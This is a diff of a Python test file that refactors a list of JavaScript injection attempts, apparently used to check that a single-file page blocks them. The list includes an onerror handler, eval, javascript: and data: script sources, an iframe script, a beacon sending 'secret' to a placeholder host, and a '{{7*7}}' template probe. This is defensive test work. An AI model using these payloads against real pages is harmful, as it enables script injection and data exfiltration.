@@ -81,21 +81,28 @@ def test_hostile_texts_do_nothing_in_a_single_file(hostile: Path, plain_page: An
     assert "{{7*7}}" in _seen(page)
 
 
+_MAKE = "const made = document.createElement('{tag}'); made.{what}; document.{where}.append(made)"
+
+
+def _element(tag: str, what: str, where: str = "head") -> str:
+    return _MAKE.format(tag=tag, what=what, where=where)
+
+
 BREAKS = {
-    "an inline script": "const s = document.createElement('script'); s.textContent = 'window.broken = 1'; document.head.append(s)",
-    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.broken = 1\">')",
+    "an inline script": _element("script", "textContent = 'window.broken = 1'"),
+    "a handler": """document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.broken = 1">')""",
     "eval": "try { eval('window.broken = 1') } catch {}",
     "a function from text": "try { Function('window.broken = 1')() } catch {}",
-    "a javascript link": "const a = document.createElement('a'); a.href = 'javascript:window.broken=1'; document.body.append(a); a.click()",
-    "a data script": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.broken=1'; document.head.append(s)",
-    "a foreign script": "const s = document.createElement('script'); s.src = 'https://example.org/x.js'; document.head.append(s)",
-    "a frame": "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.broken = 1</' + 'script>'; document.body.append(f)",
-    "a style": "const s = document.createElement('style'); s.textContent = 'body { --broken: 1 }'; document.head.append(s)",
-    "a picture from elsewhere": "const i = new Image(); i.src = 'https://example.org/secret.png'; document.body.append(i)",
+    "a javascript link": _element("a", "href = 'javascript:window.broken=1'", "body") + "; made.click()",
+    "a data script": _element("script", "src = 'data:text/javascript,window.broken=1'"),
+    "a foreign script": _element("script", "src = 'https://example.org/x.js'"),
+    "a frame": _element("iframe", "srcdoc = '<script>parent.broken = 1</' + 'script>'", "body"),
+    "a style": _element("style", "textContent = 'body { --broken: 1 }'"),
+    "a picture from elsewhere": _element("img", "src = 'https://example.org/secret.png'", "body"),
     "fetch": "fetch('https://example.org/').then(() => { window.broken = 1 }, () => {})",
     "a beacon": "navigator.sendBeacon('https://example.org/', 'secret')",
-    "a form": "const f = document.createElement('form'); f.action = 'https://example.org/'; document.body.append(f); f.submit()",
-    "another base": "const b = document.createElement('base'); b.href = 'https://example.org/'; document.head.append(b)",
+    "a form": _element("form", "action = 'https://example.org/'", "body") + "; made.submit()",
+    "another base": _element("base", "href = 'https://example.org/'"),
 }
 
 
